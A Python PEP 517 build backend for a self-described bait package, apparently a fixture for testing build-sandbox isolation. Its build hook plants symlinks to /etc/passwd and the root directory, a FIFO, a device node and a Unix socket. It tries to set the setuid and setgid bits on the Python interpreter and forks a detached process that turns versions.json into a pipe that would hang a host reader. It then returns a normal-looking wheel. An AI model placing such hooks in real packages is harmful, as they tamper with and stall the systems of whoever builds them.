"""The build backend of a package that nobody should install: it plants special files in the layer.

It runs in the container, where the unfinished layer is the one folder of the host that can be written.
"""

import os
import socket
import sys
import time
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

LAYER = Path("/opt/layer")
FILES = {
    "bait_source.py": "VALUE = 'installed'\n",
    "bait_source-1.0.dist-info/METADATA": "Metadata-Version: 2.1\nName: bait-source\nVersion: 1.0\n",
    "bait_source-1.0.dist-info/WHEEL": (
        "Wheel-Version: 1.0\nGenerator: x\nRoot-Is-Purelib: true\nTag: py3-none-any\n"
    ),
}
RECORD = "bait_source-1.0.dist-info/RECORD"


def tried(way: Callable[..., Any], *arguments: Any) -> None:
    """Go on whether or not it can be done."""
    try:
        way(*arguments)
    except OSError as error:
        print(error)  # noqa: T201 - for pip's log


def plant() -> None:
    """Leave a special file of every kind, and a pipe for the builder's last word."""
    planted = LAYER / "planted"
    planted.mkdir(exist_ok=True)
    tried(os.symlink, "/etc/passwd", planted / "link")
    tried(os.symlink, "/", planted / "root")
    tried(os.mkfifo, planted / "pipe")
    tried(os.mknod, planted / "device", 0o20666, os.makedev(1, 1))
    tried(socket.socket(socket.AF_UNIX).bind, str(planted / "socket"))
    tried(os.chmod, sys.executable, 0o6777)
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            swallow_versions()
        os._exit(0)
    os.wait()


def swallow_versions() -> None:
    """Have a pipe where the table of versions will be written: on the host, reading it would never end."""
    os.mkfifo(LAYER / "versions.json")
    os.open(LAYER / "versions.json", os.O_RDWR)  # so that the builder need not wait for a reader
    for number in range(3):
        os.close(number)
    time.sleep(600)


def build_wheel(folder: str, config_settings: Any = None, metadata_directory: Any = None) -> str:
    """PEP 517's hook: the package is there in the end, as if nothing had been."""
    plant()
    name = "bait_source-1.0-py3-none-any.whl"
    with zipfile.ZipFile(Path(folder) / name, "w") as archive:
        for path, text in FILES.items():
            archive.writestr(path, text)
        archive.writestr(RECORD, "".join(f"{path},,\n" for path in (*FILES, RECORD)))
    return name
